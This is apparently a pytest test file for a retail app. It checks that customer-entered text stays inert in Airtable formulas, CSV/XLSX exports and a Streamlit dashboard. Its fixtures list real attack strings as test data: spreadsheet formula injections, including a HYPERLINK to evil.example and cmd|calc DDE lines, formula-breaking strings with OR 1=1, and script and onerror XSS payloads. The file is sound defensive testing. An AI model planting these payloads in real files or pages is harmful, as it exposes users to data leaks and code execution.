"""Hostile text stays text: in Airtable formulas, in downloaded files, and on screen (SPEC §5, §10)."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from services.exports import EXPORT_HEADERS, to_csv, to_xlsx
from services.frame import build
from services.interests import InvalidPhone
from services.messages import Templates
from services.segments import COLUMNS, Segment, build_list
from services.store.airtable import AirtableStore
from services.store.airtable.records import phone_formula
from services.store.airtable.sync import sync
from tests.airtable_helpers import FAST, STORES, TOKEN, make_base
from tests.fake_airtable import FakeAirtable

NOW = datetime(2025, 6, 15, 12, tzinfo=UTC)
AT = datetime(2026, 11, 1, 12, tzinfo=UTC)
JARDINS = STORES[0]

# Formula and spreadsheet payloads, as a customer could type them on WhatsApp.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"clique")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "=1+1\x00\x07",
]
# Text that would break out of an Airtable formula string or field reference.
FORMULA_BREAKERS = [
    "x') & TRUE() & ('",
    'x" & TRUE() & "',
    "x}, TRUE(), {y",
    "9876\\') OR 1=1 --",
    "\x00\x1b[31m\u202e",
]
_DANGEROUS_START = re.compile(r"^[ \u00a0]*[=+\-@\t\r\n]")


# --- Airtable formulas ------------------------------------------------------------


@pytest.fixture
def fake() -> Iterator[FakeAirtable]:
    with FakeAirtable(tokens=[TOKEN], rate_limit_per_sec=None, block_seconds=0.2, seed=3) as server:
        yield server


def sent_formulas(fake: FakeAirtable) -> list[str]:
    """Every ``filterByFormula`` the fake received (query string or JSON body)."""
    found = []
    for request in fake.log:
        found += request.query.get("filterByFormula", [])
        if isinstance(request.body, dict) and request.body.get("filterByFormula"):
            found.append(request.body["filterByFormula"])
    return found


@pytest.mark.parametrize("hostile", FORMULA_BREAKERS + FORMULAS)
def test_phone_formula_holds_only_digits_of_whatever_it_is_given(hostile: str) -> None:
    schema = type("S", (), {"name": staticmethod(lambda logical: logical)})()
    formula = str(phone_formula("+55 11 98765-4321" + hostile, schema))
    assert re.fullmatch(r"REGEX_MATCH\(\{phone\}, '[0-9]+(\[\^0-9\]\*[0-9]+)*'\)", formula), formula


@pytest.mark.parametrize("phone", FORMULA_BREAKERS + ["=1+1", "+55 11 9876-54321') OR TRUE() --"])
def test_a_hostile_phone_is_refused_before_any_request(fake: FakeAirtable, tmp_path: Path,
                                                       phone: str) -> None:
    base = make_base(fake, customers=3)
    store = AirtableStore(tmp_path / "m.db", base.settings(), FAST)
    sync(store)
    before = len(fake.log)
    with pytest.raises(InvalidPhone):
        store.record(JARDINS, phone, ["Submariner"], AT, name="x")
    assert len(fake.log) == before


def test_names_and_products_reach_airtable_as_values_never_in_a_formula(
    fake: FakeAirtable, tmp_path: Path
) -> None:
    base = make_base(fake, customers=3)
    store = AirtableStore(tmp_path / "m.db", base.settings(), FAST)
    sync(store)
    name = FORMULA_BREAKERS[0] + FORMULAS[0]
    products = [FORMULA_BREAKERS[1] + " Submariner", FORMULAS[1] + " Daytona"]
    # A customer created in Airtable after the sync: found by a phone search (a formula).
    saved = store.record(JARDINS, "+55 11 97654-3210", products, AT, name=name)

    formulas = sent_formulas(fake)
    assert formulas, "the phone search should have used a formula"
    for formula in formulas:
        for text in (name, *products, "TRUE()", "cmd|", "HYPERLINK"):
            assert text not in formula, formula
        assert not re.search(r"[\x00-\x1f\x7f]", formula), formula
    fields = base.fields(saved.id)
    assert fields["name"] == " ".join(name.split())
    assert len(fields["interests_all"]) == 2


# --- downloads (SPEC §5) ----------------------------------------------------------


def hostile_customers() -> pd.DataFrame:
    rows = []
    for i, payload in enumerate(FORMULAS):
        rows.append({
            "id": f"rec{i:04d}", "store": JARDINS, "phone": f"+55 11 98765-{4300 + i}",
            "name": payload, "interests": [f"{payload} Submariner"],
            "interests_all": [f"{payload} Submariner"],
            "created_at": "2025-01-01T10:00:00Z", "last_interaction": "2025-05-01T10:00:00Z",
        })
    rows.append({"id": "recPHONE", "store": JARDINS, "phone": "=1+1", "name": "Fone Fórmula",
                 "interests": ["Submariner"], "interests_all": ["Submariner"],
                 "last_interaction": "2025-05-01T10:00:00Z"})
    return pd.DataFrame(rows)


@pytest.fixture(scope="module")
def hostile_list():
    data = build(hostile_customers())
    # A template that starts with the name, so the message column starts with the payload too.
    return build_list(data, Segment(("Submariner",), quiet_days=0), NOW,
                      Templates("{name}: o {product} chegou!"))


def test_the_hostile_list_holds_every_payload(hostile_list) -> None:
    assert hostile_list.total == len(FORMULAS)
    assert hostile_list.excluded["invalid_phone"] == 1


def test_csv_cells_never_start_a_formula(hostile_list) -> None:
    raw = to_csv(hostile_list)
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    phone_at = COLUMNS.index("phone")
    assert len(rows) == 1 + len(FORMULAS)
    for row in rows[1:]:
        assert re.fullmatch(r"\+[1-9]\d{7,14}", row[phone_at]), row[phone_at]
        for i, cell in enumerate(row):
            assert i == phone_at or not _DANGEROUS_START.match(cell), row
    names = [row[COLUMNS.index("name")] for row in rows[1:]]
    assert any(name.startswith("'=HYPERLINK") for name in names)


def test_xlsx_cells_are_text_numbers_or_dates_never_formulas(hostile_list) -> None:
    book = load_workbook(io.BytesIO(to_xlsx(hostile_list)))
    sheet = book.active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert len(cells) >= len(COLUMNS) * (1 + len(FORMULAS)) - len(FORMULAS) * 2
    typed = {EXPORT_HEADERS["last_interaction"]: "d", EXPORT_HEADERS["days_since"]: "n",
             EXPORT_HEADERS["depth"]: "n"}
    header = [cell.value for cell in sheet[1]]
    for cell in cells:
        column = header[cell.column - 1]
        expected = "s" if cell.row == 1 else typed.get(column, "s")
        assert cell.data_type == expected, (cell.coordinate, cell.value)
        if cell.data_type == "s":
            assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", cell.value)
        # Only the WhatsApp column links, and only to WhatsApp.
        assert cell.hyperlink is None or (column == EXPORT_HEADERS["whatsapp"]
                                          and cell.hyperlink.target.startswith("https://wa.me/"))
    phones = [row[COLUMNS.index("phone")].value for row in sheet.iter_rows(min_row=2)]
    assert all(re.fullmatch(r"\+[1-9]\d{7,14}", phone) for phone in phones)
    assert any("HYPERLINK" in cell.value for cell in cells)  # kept as visible text


# --- on screen: names and products are text, never Markdown or HTML ------------------

SCRIPT = "<script>alert(1)</script>"
BOLD = "**bold**"
JS_LINK = "[link](javascript:alert(2))"
IMG = "<img src=x onerror=alert(3)>"
HOSTILE_NAME = f"{SCRIPT} {BOLD} {JS_LINK} {IMG}"
HOSTILE_PRODUCTS = [f"{IMG} Submariner", "[clique](javascript:alert(5))", "**Daytona**",
                    ":red[Rolex] $x^2$ # Título"]
HOSTILE_PHONE = "+5511987659999"
# What must never reach a Markdown body unescaped.
RAW_PAYLOADS = (SCRIPT, BOLD, JS_LINK, IMG, "<img", "<script", "](javascript:", "**Daytona**", ":red[",
                "$x^2$")


@pytest.fixture
def hostile_db(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    from streamlit import config as st_config

    from services.store.sqlite import SqliteStore

    path = tmp_path / "vitrine.db"
    store = SqliteStore(path)
    store.set_meta("source", "test")
    store.add_store(JARDINS)
    rows = [{"id": f"recH{i}", "store": JARDINS, "phone": f"+55119876590{i:02d}",
             "name": f"{HOSTILE_NAME} {i}", "interests": HOSTILE_PRODUCTS,
             "interests_all": ["Datejust", *HOSTILE_PRODUCTS],
             "created_at": "2025-01-10T10:00:00Z", "last_interaction": "2025-05-01T10:00:00Z"}
            for i in range(6)]
    rows.append({**rows[0], "id": "recH99", "phone": HOSTILE_PHONE, "name": HOSTILE_NAME})
    store.insert_raw(rows)
    monkeypatch.setenv("VITRINE_DB", str(path))
    monkeypatch.setenv("VITRINE_NOW", "2025-06-15T12:00:00Z")
    before = st_config.get_option("server.address")
    st_config.set_option("server.address", "127.0.0.1")  # local mode, as `make run`
    yield path
    st_config.set_option("server.address", before)


def unescaped(payload: str, text: str) -> bool:
    """True when ``payload`` occurs in ``text`` without a backslash before it (Markdown would read it)."""
    return re.search(r"(?<!\\)" + re.escape(payload), text) is not None


def markdown_bodies(at) -> list[str]:
    """The text of every element Streamlit renders as Markdown (markdown, captions, headings, alerts)."""
    bodies: list[str] = []

    def walk(node: object) -> None:
        children = getattr(node, "children", None)
        if isinstance(children, dict):
            for child in children.values():
                proto = getattr(child, "proto", None)
                body = getattr(proto, "body", None)
                if isinstance(body, str):
                    bodies.append(body)
                walk(child)

    walk(at._tree)
    return bodies


def test_hostile_name_and_products_show_as_text_on_the_customer_card(hostile_db: Path) -> None:
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_file(str(Path(__file__).resolve().parents[1] / "dashboard" / "app.py"),
                           default_timeout=60)
    at.secrets = {"_": {}}  # local mode: never a developer's real secrets.toml
    at.run()
    at.text_input(key="clientes_query").input(HOSTILE_PHONE).run()
    assert not at.exception
    shown = "\n".join(markdown_bodies(at))
    for payload in RAW_PAYLOADS:
        assert not unescaped(payload, shown), payload
    # The values are there, escaped so Markdown shows them as typed.
    assert r"\*\*bold\*\*" in shown and r"\<script\>" in shown
    assert r"\[clique\]\(javascript\:alert\(5\)\)" in shown
    products = [v for frame in at.dataframe if "Produto" in frame.value for v in frame.value["Produto"]]
    assert f"{IMG} Submariner" in products  # a table cell is plain text


@pytest.mark.parametrize("page", ["campanhas", "metricas", "insights"])
def test_hostile_values_never_reach_markdown_on_any_page(hostile_db: Path, page: str) -> None:
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_file(str(Path(__file__).resolve().parents[1] / "dashboard" / "app.py"),
                           default_timeout=60)
    at.secrets = {"_": {}}  # local mode: never a developer's real secrets.toml
    at.run()
    at.switch_page(f"../pages/{page}.py").run()
    assert not at.exception
    shown = "\n".join(markdown_bodies(at))
    for payload in RAW_PAYLOADS:
        assert not unescaped(payload, shown), (page, payload)


def test_no_control_character_reaches_the_csv(hostile_list) -> None:
    raw = to_csv(hostile_list).decode("utf-8-sig")
    assert "\x00" not in raw and "\x1b" not in raw and "\x07" not in raw
